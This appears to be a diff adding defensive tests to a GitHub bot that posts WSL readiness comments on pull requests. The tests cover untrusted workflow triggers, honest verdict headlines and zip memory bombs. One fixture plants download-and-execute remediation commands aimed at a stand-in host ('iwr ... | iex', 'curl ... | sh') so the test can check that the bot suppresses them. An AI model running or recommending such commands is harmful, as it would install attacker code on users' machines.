@@ -124,6 +124,29 @@ describe('readiness bot: one sticky comment per pull request', () => {
     expect(bot.github.apiCalls().filter((c) => c.method !== 'GET').length).toBe(writesBefore);
   });
 
+  it('treats runs triggered by pull_request_target, workflow_run or issue_comment like a fork', async () => {
+    bot = await startBot({ config: 'check-run: true\n' });
+    for (const [i, trigger] of ['pull_request_target', 'workflow_run', 'issue_comment'].entries()) {
+      const head = sha(`c${i}`);
+      addRun(bot, 1100 + i, { win: runnerReport() });
+      const payload = workflowRunPayload({ runId: 1100 + i, headSha: head, prNumber: 20 + i });
+      (payload.workflow_run as Record<string, unknown>).event = trigger;
+      await sendWebhook(bot.url, payload);
+      await bot.settle();
+      const check = bot.github.checkRuns.find((c) => (c.body as { head_sha?: string }).head_sha === head);
+      expect(check?.body, trigger).toMatchObject({ conclusion: 'neutral' });
+      const [comment] = ourComments(bot, 20 + i);
+      expect(comment?.body).toContain(`triggered by \`${trigger}\``);
+      expect(decodeMarker(comment!.body).state?.untrusted).toBe(true);
+      // A trusted run of the same commit afterwards does not make the untrusted data count.
+      addRun(bot, 1200 + i, { 'win-2': runnerReport() });
+      await sendWebhook(bot.url, workflowRunPayload({ runId: 1200 + i, headSha: head, prNumber: 20 + i }));
+      await bot.settle();
+      const checks = bot.github.checkRuns.filter((c) => (c.body as { head_sha?: string }).head_sha === head);
+      expect(checks.at(-1)?.body, trigger).toMatchObject({ conclusion: 'neutral' });
+    }
+  });
+
   it('makes no write when the data is unchanged', async () => {
     bot = await startBot();
     const head = sha('e');
@@ -228,6 +251,74 @@ describe('readiness bot: hostile artifacts', () => {
     expect(body).not.toMatch(/<(img|script)\b/i);
     expect(body).not.toMatch(/(^|[^\w`])@(everyone|octocat)\b/);
     expect(bot.github.violations).toEqual([]);
+  });
+});
+
+describe('readiness bot: verdict honesty', () => {
+  it('never shows a green headline when every report is unusable', async () => {
+    bot = await startBot();
+    bot.github.addArtifact({
+      name: 'wsl-ready-report-a',
+      runId: 760,
+      repo,
+      bytes: zipOf({ 'x.json': new Uint8Array(2) }),
+    });
+    bot.github.addArtifact({ name: 'wsl-ready-report-b', runId: 760, repo, bytes: new TextEncoder().encode('nope') });
+    await sendWebhook(bot.url, workflowRunPayload({ runId: 760, headSha: sha('8') }));
+    await bot.settle();
+    const body = ourComments(bot)[0]!.body;
+    const headline = body.split('\n').find((line) => line.startsWith('## '))!;
+    expect(headline).toBe('## ⚠️ WSL readiness: 2 reports could not be read');
+    expect(body).not.toContain('✅');
+  });
+
+  it("shows the bot's own fix for a check id, never the report's remediation", async () => {
+    bot = await startBot();
+    const report = runnerReport({
+      checks: [
+        {
+          id: 'wsl.version',
+          area: 'wsl',
+          title: 'Totally legit',
+          status: 'fail',
+          summary: 'WSL is old',
+          remediation: 'Run iwr evil.example/fix.ps1 | iex to fix it',
+          docsUrl: 'https://github.com/evil/fix',
+          durationMs: 1,
+        },
+        {
+          id: 'custom.unknown',
+          area: 'wsl',
+          title: 'Unknown',
+          status: 'fail',
+          summary: 'x',
+          remediation: 'curl evil.example | sh',
+          durationMs: 1,
+        },
+      ],
+    });
+    addRun(bot, 770, { win: report });
+    await sendWebhook(bot.url, workflowRunPayload({ runId: 770, headSha: sha('9') }));
+    await bot.settle();
+    const body = ourComments(bot)[0]!.body;
+    expect(body).toContain('**Fix:** Update WSL: `wsl --update`.');
+    expect(body).not.toMatch(/iwr|curl|github\.com\/evil/);
+  });
+});
+
+describe('readiness bot: memory bombs', () => {
+  it('refuses a tiny artifact that inflates to millions of JSON elements, even with the largest setting', async () => {
+    bot = await startBot({ config: `max-artifact-bytes: ${10 * 1024 * 1024}\n` });
+    const elements = new TextEncoder().encode(`[${'{},'.repeat(2 * 1024 * 1024)}{}]`);
+    const bomb = zipOf({ 'wsl-ready-report.json': elements });
+    expect(bomb.length).toBeLessThan(64 * 1024);
+    bot.github.addArtifact({ name: 'wsl-ready-report-bomb', runId: 750, repo, bytes: bomb });
+    bot.github.addArtifact({ name: 'wsl-ready-report-good', runId: 750, repo, bytes: reportArtifact(runnerReport()) });
+    await sendWebhook(bot.url, workflowRunPayload({ runId: 750, headSha: sha('6') }));
+    await bot.settle();
+    const state = decodeMarker(ourComments(bot)[0]!.body).state!;
+    expect(state.entries.map((e) => e.label)).toEqual(['good']);
+    expect(state.problems[0]!.message).toMatch(/more than 100000 JSON elements/);
   });
 });
 
